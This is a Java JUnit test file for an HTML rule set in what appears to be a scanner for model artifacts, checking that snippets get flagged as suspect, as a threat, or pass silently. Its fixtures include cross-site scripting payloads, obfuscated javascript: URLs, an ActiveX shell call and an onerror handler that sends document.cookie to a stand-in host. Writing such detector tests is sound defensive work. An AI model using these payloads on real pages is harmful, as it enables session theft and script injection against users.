package io.lazaretto.artifact.markup;

import static io.lazaretto.artifact.inspect.Detectors.FORMAT;
import static io.lazaretto.artifact.testing.InspectionAssert.inspecting;

import io.lazaretto.artifact.report.Outcome;
import io.lazaretto.artifact.testing.InspectionAssert;
import io.lazaretto.artifact.testing.SafetensorsBuilder;
import io.lazaretto.artifact.testing.TestingModel;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class HtmlRulesTest {
    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            quoteCharacter = '`',
            value = {
                "<script>let a = 1;</script>~html.script",
                "<SCRIPT/x src=//x/a.js></SCRIPT>~html.script",
                "<body onload=go()>~html.event-handler",
                "<img src=x OnError='a()'>~html.event-handler",
                "<a href=\"java&#115;cript:alert(1)\">a</a>~html.script-address",
                "<a href=' java\tscript:alert(1)'>a</a>~html.script-address",
                "<form action='vbscript:x'>~html.script-address",
                "<iframe src=http://x></iframe>~html.frame",
                "<object data=x.swf></object>~html.frame",
                "<meta content='0;url=http://x' http-equiv=\"Refresh\">~html.refresh",
                "<base href=http://x/>~html.base",
                "<!-- a --><p title='<'><embed src=x>~html.frame"
            })
    void whatABrowserActsOnIsSuspect(String html, String rule) {
        page(html).reports(FORMAT, Outcome.SUSPECT, rule);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>eval( atob('eA==') )</script>",
                "<script>new ActiveXObject('WScript.Shell').Run('x')</script>",
                "<img src=x onerror='fetch(\"http://x/\" + document.cookie)'>"
            })
    void hostileScriptIsAThreat(String html) {
        page(html).reports(FORMAT, Outcome.THREAT, "html.hostile-script");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<p>Hello <b>world</b> &amp; all<br><img src=a.png alt='onload=x'>",
                "<script type=\"application/ld+json\">{\"a\": 1}</script>",
                "<style>a{background:url(x.png)}</style><!-- <script>x</script> -->",
                "<textarea><script>x</script></textarea>",
                "<a href='https://x/?q=javascript:1'>a</a> 1 < 2 and <3",
                "<meta charset=utf-8><meta name=viewport content='width=1'>"
            })
    void ordinaryPagesStaySilent(String html) {
        page(html).staysSilent();
    }

    @Test
    void unclosedTagsEnd() {
        page("<".repeat(10_000) + "<a ".repeat(10_000) + "<script>".repeat(3)).isNotClear();
    }

    private static InspectionAssert page(String html) {
        return inspecting(new TestingModel()
                .with("model.safetensors", SafetensorsBuilder.clean())
                .with("page.html", "<!DOCTYPE html><html><head><title>t</title></head>" + html + "</html>"));
    }
}
